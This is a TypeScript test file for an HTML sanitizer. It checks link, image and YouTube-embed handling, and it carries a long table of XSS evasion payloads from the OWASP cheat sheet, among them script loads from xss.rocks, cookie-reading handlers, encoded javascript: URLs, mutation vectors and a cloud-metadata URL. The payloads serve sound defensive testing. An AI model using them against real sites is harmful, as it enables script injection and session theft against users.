import { beforeAll, describe, expect, it } from 'vitest';
import { attachmentPath, mapAttachmentImages, MAX_HTML_LENGTH, MAX_NESTING, sanitizeHtml } from '../../src/common/html';

// htmlparser2 is ESM-only; this file is CommonJS for tsc, so load it dynamically.
const loadHtmlparser2 = () => import('htmlparser2');
let htmlparser2: Awaited<ReturnType<typeof loadHtmlparser2>>;
beforeAll(async () => {
  htmlparser2 = await loadHtmlparser2();
});

interface Element {
  name: string;
  attribs: Record<string, string>;
}

/** Every element of an HTML string, as a browser-like tokenizer sees it (entities in attributes decoded). */
function elementsOf(html: string): Element[] {
  const found: Element[] = [];
  const parser = new htmlparser2.Parser(
    { onopentag: (name, attribs) => found.push({ name, attribs: { ...attribs } }) },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

const ALLOWED: Record<string, string[]> = {
  p: [], br: [], b: [], strong: [], i: [], em: [], u: [], s: [], strike: [], blockquote: [], pre: [], code: [],
  ul: [], ol: ['start'], li: [], h1: [], h2: [], h3: [], h4: [], h5: [], h6: [], hr: [],
  table: [], thead: [], tbody: [], tr: [], th: ['colspan', 'rowspan'], td: ['colspan', 'rowspan'],
  span: [], div: [], sub: [], sup: [],
  a: ['href', 'rel', 'target', 'title'],
  img: ['src', 'alt', 'title', 'width', 'height'],
  iframe: ['src', 'width', 'height', 'allowfullscreen', 'frameborder', 'title'],
};

/** What a browser ignores when reading a URL scheme, removed; lower case. */
function normalizeUrl(value: string): string {
  return value.replace(/[\u0000-\u0020\u007f]/g, '').toLowerCase();
}

const EVIL_SCHEME = /(?:javascript|vbscript|livescript|data|jar|mhtml|file):/;
const YOUTUBE = /^https:\/\/www\.youtube(?:-nocookie)?\.com\/embed\/[A-Za-z0-9_-]+(?:\?[A-Za-z0-9_.%=&-]*)?$/;

/** Fails unless `html` carries no executable vector. */
function expectSafe(html: string): void {
  expect(html).not.toMatch(/<\s*\/?\s*script/i);
  // Text is always escaped, so every raw `<` opens a real tag: inspect those too.
  // Attribute values are always double-quoted with `"` escaped, so blanking them leaves the names.
  for (const tag of html.match(/<[^>]*>?/g) ?? []) {
    const names = tag.replace(/"[^"]*"/g, '""');
    expect(names).not.toMatch(/[\s/"']on[a-z]+\s*=/i);
    expect(names).not.toMatch(/\sstyle\s*=/i);
    expect(names).not.toMatch(/formaction/i);
    expect(normalizeUrl(tag)).not.toMatch(EVIL_SCHEME);
  }
  for (const el of elementsOf(html)) {
    expect(Object.keys(ALLOWED), `tag <${el.name}>`).toContain(el.name);
    for (const [name, value] of Object.entries(el.attribs)) {
      expect(ALLOWED[el.name], `attribute ${name} on <${el.name}>`).toContain(name);
      expect(name).not.toMatch(/^on/);
      expect(normalizeUrl(value), `${el.name}[${name}]`).not.toMatch(EVIL_SCHEME);
      expect(normalizeUrl(value), `${el.name}[${name}]`).not.toMatch(/expression\(|url\(/);
    }
    if (el.name === 'a') {
      expect(el.attribs.rel).toBe('noopener noreferrer nofollow');
      expect(el.attribs.target).toBe('_blank');
      if (el.attribs.href !== undefined) {
        const href = normalizeUrl(el.attribs.href);
        const scheme = /^([a-z][a-z0-9+.-]*):/.exec(href);
        if (scheme) expect(['http', 'https', 'mailto']).toContain(scheme[1]);
        else expect(href).not.toMatch(/^[/\\]{2}/);
      }
    }
    if (el.name === 'img') expect(el.attribs.src).toMatch(/^\/attachments\/[^/?#]+$/);
    if (el.name === 'iframe') expect(el.attribs.src).toMatch(YOUTUBE);
  }
}

const NUL = String.fromCharCode(0);

/** [name, payload]: the OWASP XSS Filter Evasion Cheat Sheet and friends. */
const PAYLOADS: Array<[string, string]> = [
  ['basic script', `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`],
  ['script lower case', `<script>alert('XSS')</script>`],
  ['script mixed case', `<ScRiPt>alert('XSS')</sCrIpT>`],
  ['script with type', `<script type="text/javascript">alert(1)</script>`],
  ['polyglot', `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`],
  ['img javascript quoted', `<IMG SRC="javascript:alert('XSS');">`],
  ['img javascript no quotes', `<IMG SRC=javascript:alert('XSS')>`],
  ['img case insensitive', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ['img html entities', `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`],
  ['img grave accents', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['malformed a onmouseover quoted', `<a onmouseover="alert(document.cookie)">xxs link</a>`],
  ['malformed a onmouseover bare', `<a onmouseover=alert(document.cookie)>xxs link</a>`],
  ['malformed img tags', `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`],
  ['fromCharCode', `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`],
  ['default src with onmouseover', `<IMG SRC=# onmouseover="alert('xxs')">`],
  ['empty src with onmouseover', `<IMG SRC= onmouseover="alert('xxs')">`],
  ['no src', `<IMG onmouseover="alert('xxs')">`],
  ['onerror alert', `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`],
  ['onerror entity encoded', `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`],
  ['decimal entities', `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`],
  ['zero-padded decimal entities without semicolons', `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`],
  ['hex entities without semicolons', `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`],
  ['embedded tab', `<IMG SRC="jav\tascript:alert('XSS');">`],
  ['embedded encoded tab', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ['embedded newline', `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ['embedded carriage return', `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ['null breaks up javascript', `<IMG SRC=java${NUL}script:alert("XSS")>`],
  ['spaces and meta chars before javascript', `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ['non-alpha-non-digit script', `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`],
  ['non-alpha-non-digit body onload', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['script slash src', `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`],
  ['extraneous open brackets', `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`],
  ['no closing script tag', `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`],
  ['protocol resolution in script tags', `<SCRIPT SRC=//xss.rocks/.j>`],
  ['half open html', `<IMG SRC="\`<javascript:alert>\`('XSS')"`],
  ['half open img', `<IMG SRC="javascript:alert('XSS')"`],
  ['double open angle brackets', `<iframe src=http://xss.rocks/scriptlet.html <`],
  ['escaping javascript escapes', `\\";alert('XSS');//</script><script>alert('XSS');</script>`],
  ['end title tag', `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`],
  ['input image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ['body image', `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ['img dynsrc', `<IMG DYNSRC="javascript:alert('XSS')">`],
  ['img lowsrc', `<IMG LOWSRC="javascript:alert('XSS')">`],
  ['list-style-image', `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`],
  ['vbscript in image', `<IMG SRC='vbscript:msgbox("XSS")'>`],
  ['livescript in image', `<IMG SRC="livescript:[code]">`],
  ['svg onload', `<svg/onload=alert('XSS')>`],
  ['svg onload with space', `<svg onload=alert(1)><circle r="40"/></svg>`],
  ['svg script', `<svg><script>alert(1)</script></svg>`],
  ['svg xlink href', `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`],
  ['svg animate href', `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>`],
  ['math href', `<math href="javascript:alert(1)">CLICKME</math>`],
  ['math maction', `<math><maction actiontype="statusline" xlink:href="javascript:alert('XSS')">CLICKME<mtext>http://x</mtext></maction></math>`],
  ['body onload', `<BODY ONLOAD=alert('XSS')>`],
  ['body onpageshow', `<BODY onpageshow="alert(1)">hi</BODY>`],
  ['bgsound', `<BGSOUND SRC="javascript:alert('XSS');">`],
  ['javascript includes', `<BR SIZE="&{alert('XSS')}">`],
  ['style sheet link', `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ['remote style sheet', `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`],
  ['style import', `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`],
  ['meta link header', `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`],
  ['moz binding', `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`],
  ['style import obfuscated', `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`],
  ['img style expression', `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
  ['anchor style expression', `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`],
  ['style type javascript', `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`],
  ['style background-image class', `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`],
  ['style background', `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`],
  ['anonymous html with style', `<XSS STYLE="xss:expression(alert('XSS'))">`],
  ['local htc', `<XSS STYLE="behavior: url(xss.htc);">`],
  ['meta refresh javascript', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  ['meta refresh data', `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`],
  ['meta refresh extra url', `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`],
  ['meta set-cookie', `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`],
  ['iframe javascript src', `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ['iframe event based', `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`],
  ['iframe srcdoc', `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
  ['iframe data uri', `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`],
  ['frameset', `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ['table background', `<TABLE BACKGROUND="javascript:alert('XSS')">`],
  ['td background', `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`],
  ['div background-image', `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`],
  ['div background-image unicode', `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`],
  ['div background-image extra chars', `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`],
  ['div expression', `<DIV STYLE="width: expression(alert('XSS'));">`],
  ['downlevel-hidden block', `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`],
  ['base tag', `<BASE HREF="javascript:alert('XSS');//">`],
  ['object tag', `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`],
  ['object param', `<OBJECT classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert('XSS')></OBJECT>`],
  ['embed svg data uri', `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`],
  ['xml data island with comment obfuscation', `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`],
  ['xml data island cdata', `<XML ID="xss"><I><B><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert('XSS');">]]></B></I></XML>`],
  ['html+time', `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>`],
  ['script with > in attribute', `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  ['script with => in attribute', `<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  ['script with grave accent attribute', '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['script with quotes in attribute', `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  ['document.write split script', `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  ['button formaction', `<form><button formaction="javascript:alert(1)">X</button></form>`],
  ['input formaction', `<input type="submit" formaction="javascript:alert(1)" value="go">`],
  ['form action', `<form action="javascript:alert(1)"><input name="q"><textarea>t</textarea><select><option>o</option></select></form>`],
  ['anchor encoded tab', `<a href="jav&#x09;ascript:alert(1)">x</a>`],
  ['anchor decimal entity j', `<a href="&#106;avascript:alert(1)">x</a>`],
  ['anchor hex entity j', `<a href="&#x6A;avascript:alert(1)">x</a>`],
  ['anchor zero padded entity', `<a href="&#0000106avascript:alert(1)">x</a>`],
  ['anchor named entity colon', `<a href="javascript&colon;alert(1)">x</a>`],
  ['anchor named entity tab', `<a href="java&Tab;script:alert(1)">x</a>`],
  ['anchor newline split', `<a href="java\nscript:alert(1)">x</a>`],
  ['anchor leading spaces and control', `<a href=" \u0001 javascript:alert(1)">x</a>`],
  ['anchor upper case', `<A HREF="JAVASCRIPT:alert(1)">x</A>`],
  ['anchor vbscript', `<a href="vbscript:msgbox(1)">x</a>`],
  ['anchor data uri', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`],
  ['anchor onclick and style', `<a href="https://ok.example/" onclick="alert(1)" style="color:red" target="_self" rel="opener">x</a>`],
  ['anchor protocol relative', `<a href="//evil.example/">x</a>`],
  ['noscript mutation', `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
  ['svg style mutation', `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`],
  ['math mglyph mutation', `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`],
  ['form math mutation', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`],
  ['textarea content', `<textarea><script>alert(1)</script></textarea>`],
  ['xmp content', `<xmp><script>alert(1)</script></xmp>`],
  ['template content', `<template><script>alert(1)</script><img src=x onerror=alert(1)></template>`],
  ['img data uri', `<img src="data:image/png;base64,iVBORw0KGgo=">`],
  ['img external', `<img src="http://169.254.169.254/latest/meta-data/">`],
  ['img srcset', `<img src="/attachments/QXR0YWNobWVudDox" srcset="https://evil.example/x.png 1x" onerror="alert(1)">`],
  ['img cid with scheme-like id', `<img src="cid:javascript:alert(1)">`],
  ['youtube iframe with extras', `<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>alert(1)</script>" onload="alert(1)" style="x" sandbox="allow-scripts"><script>alert(1)</script></iframe>`],
  ['iframe lookalike host', `<iframe src="https://www.youtube.com.evil.example/embed/abc"></iframe>`],
  ['iframe credentials', `<iframe src="https://www.youtube.com@evil.example/embed/abc"></iframe>`],
  ['iframe http youtube', `<iframe src="http://www.youtube.com/embed/abc"></iframe>`],
  ['unclosed iframe', `<iframe src="https://evil.example/">payload<script>alert(1)</script>`],
  ['details ontoggle', `<details open ontoggle=alert(1)>x</details>`],
  ['video source onerror', `<video><source onerror="alert(1)"></video>`],
  ['audio src', `<audio src=x onerror=alert(1)>`],
  ['marquee onstart', `<marquee onstart=alert(1)>x</marquee>`],
  ['isindex', `<isindex type=image src=1 onerror=alert(1)>`],
  ['div with id clobbering and data attribute', `<div id="x" data-x="javascript:alert(1)" class="c">x</div>`],
  ['comment trickery', `<!--<img src="--><img src=x onerror=alert(1)//">`],
  ['cdata', `<![CDATA[><script>alert(1)</script>]]>`],
  ['processing instruction', `<?xml version="1.0"?><script>alert(1)</script>`],
  ['doctype and html', `<!DOCTYPE html><html><head><title>t</title><script>alert(1)</script></head><body onload="alert(1)"><p>hi</p></body></html>`],
  ['nested quotes', `<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>`],
  ['attribute without quotes breakout', `<a href=https://ok.example/ onmouseover=alert(1)>x</a>`],
  ['entity-encoded markup stays text', `&lt;script&gt;alert(1)&lt;/script&gt;`],
  ['double-encoded markup', `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`],
];

describe('sanitizeHtml: XSS payloads', () => {
  it('has a thorough table', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(60);
    expect(new Set(PAYLOADS.map(([name]) => name)).size).toBe(PAYLOADS.length);
  });

  it.each(PAYLOADS)('%s', (_name, payload) => {
    const { html } = sanitizeHtml(payload);
    expectSafe(html);
    expect(sanitizeHtml(html).html).toBe(html);
    // Also when images are mapped as the thread service maps them.
    const mapped = sanitizeHtml(payload, { attachmentUrl: (id) => `/attachments/${encodeURIComponent(id)}` }).html;
    expectSafe(mapped);
  });

  it.each([
    ['<script>alert(1)</script>', ''],
    ['<ScRiPt>alert(1)</sCrIpT>ok', 'ok'],
    ['<style>p{color:red}</style>ok', 'ok'],
    ['<svg><text>svg text</text></svg>ok', 'ok'],
    ['<math><mi>x</mi></math>ok', 'ok'],
    ['<noscript>hidden</noscript>ok', 'ok'],
    ['<textarea>hidden</textarea>ok', 'ok'],
    ['<iframe src="https://player.vimeo.com/video/1">fallback <b>text</b></iframe>ok', 'ok'],
    ['<title>t</title>ok', 'ok'],
  ])('drops %j with its content', (payload, expected) => {
    expect(sanitizeHtml(payload).html).toBe(expected);
  });

  it.each([
    ['<form><label>Name</label><input name="n"><button>Send</button></form>', 'NameSend'],
    ['<font color="red">red</font>', 'red'],
    ['<xss style="x">kept text</xss>', 'kept text'],
    ['<body onload="alert(1)"><p>hi</p></body>', '<p>hi</p>'],
    ['<object data="x.swf">fallback</object>', ''],
  ])('drops the tag of %j', (payload, expected) => {
    expect(sanitizeHtml(payload).html).toBe(expected);
  });
});

describe('sanitizeHtml: what is kept', () => {
  it('keeps formatting', () => {
    const html =
      '<h1>T</h1><h2>a</h2><h3>b</h3><h4>c</h4><h5>d</h5><h6>e</h6>' +
      '<p><b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <u>u</u> <s>s</s> <strike>k</strike> <sub>1</sub><sup>2</sup> <code>c</code> <span>sp</span></p>' +
      '<blockquote>q</blockquote><pre>pre</pre><hr /><div>d</div>' +
      '<ul><li>1</li></ul><ol start="3"><li>2</li></ol>' +
      '<table><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td rowspan="1">x</td><td>y</td></tr></tbody></table>';
    expect(sanitizeHtml(html).html).toBe(html);
  });

  it('strips attributes from formatting tags', () => {
    expect(sanitizeHtml('<p class="x" id="y" style="color:red" title="t" dir="rtl">p</p>').html).toBe('<p>p</p>');
    expect(sanitizeHtml('<td colspan="x" rowspan="2" width="3">c</td>').html).toBe('<td rowspan="2">c</td>');
    expect(sanitizeHtml('<ol start="javascript:1" type="a"><li>x</li></ol>').html).toBe('<ol><li>x</li></ol>');
  });

  it('forces rel and target on every link', () => {
    expect(sanitizeHtml('<a href="https://example.com/a?b=1&amp;c=2" target="_self" rel="opener">x</a>').html).toBe(
      '<a rel="noopener noreferrer nofollow" target="_blank" href="https://example.com/a?b=1&amp;c=2">x</a>',
    );
    expect(sanitizeHtml('<a href="http://example.com/">x</a>').html).toContain('href="http://example.com/"');
    expect(sanitizeHtml('<a name="anchor">x</a>').html).toBe('<a rel="noopener noreferrer nofollow" target="_blank">x</a>');
  });

  it('keeps mailto links and relative links, not other schemes', () => {
    expect(sanitizeHtml('<a href="mailto:help@example.com">mail</a>').html).toBe(
      '<a rel="noopener noreferrer nofollow" target="_blank" href="mailto:help@example.com">mail</a>',
    );
    expect(sanitizeHtml('<a href="/tickets/42">t</a>').html).toContain('href="/tickets/42"');
    for (const href of ['ftp://x/', 'tel:123', 'file:///etc/passwd', 'javascript:alert(1)', '//evil.example/']) {
      expect(sanitizeHtml(`<a href="${href}">x</a>`).html, href).toBe('<a rel="noopener noreferrer nofollow" target="_blank">x</a>');
    }
  });

  it('keeps YouTube embeds from both hosts', () => {
    const youtube =
      '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?start=30" width="560" height="315" allowfullscreen frameborder="0"></iframe>';
    expect(sanitizeHtml(youtube).html).toBe(youtube);
    expect(
      sanitizeHtml('<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" allow="autoplay" onload="x" allowfullscreen></iframe>').html,
    ).toBe('<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="560" height="315" allowfullscreen></iframe>');
  });

  it('drops every other iframe', () => {
    for (const src of [
      'https://player.vimeo.com/video/76979871',
      'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
      'https://youtube.com/embed/dQw4w9WgXcQ',
      'https://www.youtube.com/embed/../../evil',
      'https://evil.example/embed/dQw4w9WgXcQ',
      '/attachments/1',
      'javascript:alert(1)',
    ]) {
      expect(sanitizeHtml(`<p>a</p><iframe src="${src}" width="1"></iframe><p>b</p>`).html, src).toBe('<p>a</p><p>b</p>');
    }
    expect(sanitizeHtml('<iframe>x</iframe>').html).toBe('');
  });

  it('keeps attachment images, mapped through attachmentUrl', () => {
    const seen: string[] = [];
    const attachmentUrl = (id: string) => {
      seen.push(id);
      return `https://files.example/${id}`;
    };
    expect(sanitizeHtml('<img src="cid:QXR0YWNobWVudDox" alt="logo" width="10" height="20%" onerror="x">', { attachmentUrl }).html).toBe(
      '<img src="https://files.example/QXR0YWNobWVudDox" alt="logo" width="10" height="20%" />',
    );
    expect(sanitizeHtml('<img src="/attachments/QXR0YWNobWVudDoy">', { attachmentUrl }).html).toBe(
      '<img src="https://files.example/QXR0YWNobWVudDoy" />',
    );
    expect(sanitizeHtml('<img src="CID:ii_abc.123@mail.example">', { attachmentUrl }).html).toBe(
      '<img src="https://files.example/ii_abc.123@mail.example" />',
    );
    expect(seen).toEqual(['QXR0YWNobWVudDox', 'QXR0YWNobWVudDoy', 'ii_abc.123@mail.example']);
  });

  it('points attachment images at /attachments/<id> by default', () => {
    expect(sanitizeHtml('<img src="cid:QXR0YWNobWVudDox" alt="">').html).toBe('<img src="/attachments/QXR0YWNobWVudDox" alt="" />');
    expect(sanitizeHtml('<img src="/attachments/QXR0YWNobWVudDox">').html).toBe('<img src="/attachments/QXR0YWNobWVudDox" />');
    // a signed link of ours (a body read with signed images, saved again) goes back to the plain path
    const signature = 'a'.repeat(43);
    expect(sanitizeHtml(`<img src="/attachments/QXR0YWNobWVudDox?expires=1764230400&amp;signature=${signature}">`).html).toBe('<img src="/attachments/QXR0YWNobWVudDox" />');
    expect(sanitizeHtml(`<img src="/attachments/QXR0YWNobWVudDox?expires=1&amp;signature=short">`).html).toBe('');
  });

  it('drops an image when attachmentUrl returns null, or returns a dangerous URL', () => {
    expect(sanitizeHtml('<p>a<img src="cid:unknown">b</p>', { attachmentUrl: () => null }).html).toBe('<p>ab</p>');
    expect(sanitizeHtml('<img src="cid:x">', { attachmentUrl: () => 'javascript:alert(1)' }).html).toBe('');
  });

  it('drops every image that is not an attachment', () => {
    for (const src of [
      'https://example.com/logo.png',
      'http://169.254.169.254/latest/meta-data/',
      '//example.com/x.png',
      'data:image/png;base64,iVBORw0KGgo=',
      'javascript:alert(1)',
      '/attachments/a/b',
      '/attachments/1?x=https://evil',
      '/api/attachments/1',
      'attachments/1',
      'cid:',
      'cid:<script>',
      '',
    ]) {
      expect(sanitizeHtml(`<p>x<img src="${src}" alt="a">y</p>`, { attachmentUrl: (id) => `/attachments/${id}` }).html, src).toBe('<p>xy</p>');
    }
    expect(sanitizeHtml('<img alt="no src">').html).toBe('');
  });

  it('is idempotent on a document with every kind of content', () => {
    const doc =
      '<div><p>Hello&nbsp;<b>world</b> &amp; &lt;friends&gt; "quoted" \'single\'</p>' +
      '<a href="https://example.com/?a=1&b=&quot;2&quot;" title="t &amp; &quot;q&quot;">l</a>' +
      '<img src="cid:QXR0YWNobWVudDox" alt="a &quot;b&quot;">' +
      '<iframe src="https://www.youtube.com/embed/abc?si=x_y-z" allowfullscreen></iframe>' +
      '<pre>  a\n    b &lt;c&gt;</pre><p>Üñíçødé ✓ &#128512;</p><script>x</script></div>';
    const once = sanitizeHtml(doc, { attachmentUrl: (id) => `/attachments/${encodeURIComponent(id)}` });
    const twice = sanitizeHtml(once.html, { attachmentUrl: (id) => `/attachments/${encodeURIComponent(id)}` });
    expect(twice.html).toBe(once.html);
    expect(twice.text).toBe(once.text);
    expect(sanitizeHtml(once.html).html).toBe(once.html);
    expectSafe(once.html);
  });
});

describe('sanitizeHtml: idempotence on malformed structure', () => {
  it.each([
    '<p>a<div>b</div>c</p>',
    '<p><ul><li>x</li></ul></p>',
    '<table><td>x</td></table>',
    '<a href="/x">a<a href="/y">b</a>c</a>',
    '<h1>a<h2>x</h2>b</h1>',
    '<p>a<p>b</p></p>',
    '<p>a<hr>b</p>',
    '<ul><li>a<ul><li>b</ul></ul>',
    '</p></br>',
    '<b><i>x</b></i>',
    '<pre>\n  indented\n</pre>',
  ])('%j', (payload) => {
    const once = sanitizeHtml(payload);
    const twice = sanitizeHtml(once.html);
    expect(twice.html).toBe(once.html);
    expect(twice.text).toBe(once.text);
  });
});

describe('sanitizeHtml: text rendering', () => {
  it('renders paragraphs, lists, breaks and entities as plain text', () => {
    const { text } = sanitizeHtml(
      '<h1>Printer   problem</h1>\n<p>Hello&nbsp;team,</p>\n<p>It says &lt;error&gt; &amp; stops.<br>Twice&#33;</p>' +
        '<ul>\n  <li>Model: <b>X-100</b></li>\n  <li>Floor <a href="https://example.com/map">3</a></li>\n</ul>' +
        '<p>Thanks,<br><br>Ana</p><script>alert(1)</script>',
    );
    expect(text).toBe('Printer problem\nHello team,\nIt says <error> & stops.\nTwice!\nModel: X-100\nFloor 3\nThanks,\n\nAna');
  });

  it('keeps whitespace inside pre and separates table cells', () => {
    expect(sanitizeHtml('<p>Log:</p><pre>line 1\n  line 2</pre><table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>').text).toBe(
      'Log:\nline 1\n  line 2\na b\n1 2',
    );
  });

  it('is empty for markup without text', () => {
    expect(sanitizeHtml('<p> </p><br><div>&nbsp;</div>').text).toBe('');
    expect(sanitizeHtml('<script>alert(1)</script><style>x</style>').text).toBe('');
    expect(sanitizeHtml('').text).toBe('');
  });

  it('keeps inline text inline and decodes what sanitizing escaped', () => {
    expect(sanitizeHtml('a<b>b</b><i>c</i> <span>d</span>').text).toBe('abc d');
    expect(sanitizeHtml('&amp;lt;not a tag&amp;gt; &quot;q&quot;').text).toBe('&lt;not a tag&gt; "q"');
    expect(sanitizeHtml('<<SCRIPT>alert(1)//<</SCRIPT>').text).toBe('<');
  });
});

describe('sanitizeHtml: size and nesting', () => {
  it('keeps nesting up to MAX_NESTING', () => {
    const depth = MAX_NESTING - 1;
    const html = '<div>'.repeat(depth) + 'deep' + '</div>'.repeat(depth);
    expect(sanitizeHtml(html)).toEqual({ html, text: 'deep' });
  });

  it('flattens deeper nesting to escaped text, still safe and idempotent', () => {
    const payload = '<b>'.repeat(MAX_NESTING + 10) + 'deep &amp; <i>x</i><img src=x onerror=alert(1)><script>alert(1)</script>';
    const { html, text } = sanitizeHtml(payload);
    expect(elementsOf(html)).toEqual([]);
    expect(html).toBe(' deep &amp;  x alert(1) ');
    expect(text).toBe('deep & x alert(1)');
    expect(sanitizeHtml(html).html).toBe(html);
  });

  it('does not let unclosed paragraphs or list items count as nesting', () => {
    const list = sanitizeHtml('<ul>' + '<li>item'.repeat(MAX_NESTING * 2) + '</ul>').html;
    expect(list.match(/<li>/g)?.length).toBe(MAX_NESTING * 2);
    const paragraphs = sanitizeHtml('<div>' + '<p>para'.repeat(MAX_NESTING * 2) + '</div>').html;
